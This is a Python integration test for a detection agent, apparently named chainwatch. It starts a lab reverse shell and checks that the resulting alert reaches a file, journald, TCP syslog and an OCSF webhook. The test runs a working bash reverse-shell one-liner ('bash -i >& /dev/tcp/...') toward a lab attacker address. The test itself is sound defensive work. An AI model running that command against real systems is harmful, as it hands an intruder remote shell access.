"""`chainwatch run` with every output enabled: one lab reverse shell reaches the alerts file, journald (the
test's native-protocol socket), a TCP syslog collector and an HTTPS webhook in OCSF, all wired from the
config file as users write it."""

from __future__ import annotations

import json
import signal
import subprocess
import sys
import time
from pathlib import Path

from tests.helpers.polling import wait_until
from tests.unit.receivers import HttpsReceiver, JournalReceiver, SyslogReceiver, make_certificate, short_tmpdir
from tests.unit.test_ocsf import errors as ocsf_errors


def test_run_sends_a_reverse_shell_to_every_output(sensorlab, netlab, tmp_path: Path) -> None:
    port = netlab.port()
    cert, key = make_certificate(tmp_path)
    with short_tmpdir() as sockdir:
        journal = JournalReceiver(sockdir / "journal.sock")
        syslog = SyslogReceiver("tcp")
        webhook = HttpsReceiver(cert, key)
        for receiver in (journal, syslog, webhook):
            receiver.start()
        alerts, log, config = tmp_path / "alerts.jsonl", tmp_path / "run.log", tmp_path / "chainwatch.toml"
        config.write_text(f"""
[detection]
alerts = ["{alerts}"]
spool_dir = "{tmp_path / "spool"}"
[outputs.journald]
enabled = true
socket = "{journal.path}"
[outputs.syslog]
enabled = true
transport = "tcp"
address = "{syslog.address}"
[outputs.webhook]
enabled = true
url = "{webhook.url}"
ca_file = "{cert}"
format = "ocsf"
""")
        try:
            with log.open("w") as err:
                agent = subprocess.Popen(
                    [sys.executable, "-m", "agent", "run", "--config", str(config)],
                    stderr=err,
                    stdout=subprocess.DEVNULL,
                )
            try:
                assert wait_until(lambda: '"sensor_ready"' in log.read_text(), timeout=60), log.read_text()
                listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))\nexit\n", duration=10)
                netlab.run(
                    netlab.victim_ns,
                    ["bash", "-c", f"bash -i >& /dev/tcp/{netlab.attacker_ip4}/{port} 0>&1; exit 0"],
                    timeout=15,
                )
                assert b"cw-42" in listener.wait(timeout=15)
                assert wait_until(lambda: bool(journal.items and syslog.items and webhook.items), timeout=20), (
                    log.read_text()
                )
                time.sleep(1)
            finally:
                agent.send_signal(signal.SIGTERM)
                rc = agent.wait(timeout=30)
        finally:
            for receiver in (journal, syslog, webhook):
                receiver.stop()
    assert rc == 0, log.read_text()
    ready = next(json.loads(line) for line in log.read_text().splitlines() if '"sensor_ready"' in line)
    assert ready["alerts"] == [str(alerts), f"journald://{journal.path}", f"syslog+tcp://{syslog.address}", webhook.url]
    ours = [json.loads(line) for line in alerts.read_text().splitlines()]
    ours = [a for a in ours if a.get("destination", {}).get("port") == port]
    assert ours, "the reverse shell's alert in the file"
    ids = [a["event"]["id"] for a in ours]
    journal_ids = [e["CHAINWATCH_ALERT_ID"].decode() for e in journal.items]
    syslog_ids = [m["params"]["alert_id"] for m in syslog.items]
    findings = [doc for batch in webhook.items for doc in batch]
    assert [i for i in journal_ids if i in ids] == ids
    assert [i for i in syslog_ids if i in ids] == ids
    ours_ocsf = [d for d in findings if d["finding_info"]["uid"] in ids]
    assert [d["finding_info"]["uid"] for d in ours_ocsf] == ids
    for doc in ours_ocsf:
        assert ocsf_errors(doc) == []
        assert {"ip": netlab.attacker_ip4, "port": port} in [e.get("dst_endpoint") for e in doc["evidences"]]
    assert journal.errors == syslog.errors == webhook.errors == []
